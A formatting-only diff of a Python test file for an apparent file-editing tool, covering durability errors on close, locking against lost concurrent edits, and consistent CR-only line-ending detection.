     told as the directory sync's failure is: written, but maybe not durable; the directory is synced still."""
@@ -2350,15 +2553,17 @@ async def test_a_close_that_fails_after_the_rename_says_the_file_was_written(
         monkeypatch.setattr(os, "fdopen", fdopen)
         result = await h.call("edit", {"path": "a.txt", "old_string": "alpha", "new_string": "beta"})
     assert result.code == "TOOL_FAILED"
-    assert result.text.startswith("Error: 'a.txt' was written, but it may not be durable: closing it failed "
-                                  "(Input/output error)"), result.text
+    assert result.text.startswith(
+        "Error: 'a.txt' was written, but it may not be durable: closing it failed (Input/output error)"
+    ), result.text
     assert [name for name, _ in events] == ["fsync file", "replace", "fsync directory"]
     assert (tmp_path / "a.txt").read_text() == "beta\n"
     assert os.listdir(tmp_path) == ["a.txt"]
 
 
 async def test_two_concurrent_edits_of_one_file_never_lose_one(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Two edits of one file run at once (in their threads) could both find it unchanged before either renamed
     its copy over it, so the second rename undid the first edit unseen. From its check to its rename an edit
     now holds a lock of the file's name, so the other, checking after, finds the change and is refused.
@@ -2398,7 +2603,8 @@ async def test_two_concurrent_edits_of_one_file_never_lose_one(
     async with boot(ws(tmp_path)) as h:
         results = await asyncio.gather(
             h.call("edit", {"path": "a.txt", "old_string": "one", "new_string": "ONE"}),
-            h.call("edit", {"path": "a.txt", "old_string": "two", "new_string": "TWO"}))
+            h.call("edit", {"path": "a.txt", "old_string": "two", "new_string": "TWO"}),
+        )
     refused = [result for result in results if result.error is not None]
     done = [result for result in results if result.error is None]
     assert len(refused) == 1 and len(done) == 1, [result.text for result in results]
@@ -2409,8 +2615,21 @@ async def test_two_concurrent_edits_of_one_file_never_lose_one(
 
 #: Files on either side of the CR-only rule: CR alone, CRLF, LF, mixed, a CR at the end only or before
 #: an LF, no break at all, and non-ASCII text around them.
-_LINE_ENDING_SAMPLES = ["", "one", "one\rtwo\r", "one\rtwo", "one\r", "\r", "one\r\ntwo\r\n", "one\ntwo\n",
-                        "one\rtwo\nthree", "one\n\r", "\r\n", "caf\u00e9\rna\u00efve\r", "caf\u00e9\n\r\u00e9"]
+_LINE_ENDING_SAMPLES = [
+    "",
+    "one",
+    "one\rtwo\r",
+    "one\rtwo",
+    "one\r",
+    "\r",
+    "one\r\ntwo\r\n",
+    "one\ntwo\n",
+    "one\rtwo\nthree",
+    "one\n\r",
+    "\r\n",
+    "caf\u00e9\rna\u00efve\r",
+    "caf\u00e9\n\r\u00e9",
+]
 
 
 @pytest.mark.parametrize("text", _LINE_ENDING_SAMPLES)
@@ -2424,7 +2643,8 @@ def test_the_cr_only_rule_gives_one_answer_for_a_files_bytes_and_its_text(text: 
 
 @pytest.mark.parametrize("text", _LINE_ENDING_SAMPLES)
 def test_reads_streaming_copy_of_the_cr_only_rule_agrees_with_the_shared_one(
-        text: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    text: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
     # read decides from a file it streams in chunks (it may be far larger than edit's limit), so it keeps a
     # chunked copy of the rule: pinned here to the shared one, with chunks small enough to cut the text.
     import io
@@ -2440,7 +2660,8 @@ def test_reads_streaming_copy_of_the_cr_only_rule_agrees_with_the_shared_one(
 
 
 async def test_edit_decides_a_files_line_ending_by_the_rule_read_and_search_use(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """edit had its own copy of the CR-only rule (on its decoded text): it now asks the shared one, so edit,
     read and search cannot disagree about where a file's lines end; each keeps a file's endings as they are."""
     from dsh_plugins import _search_worker
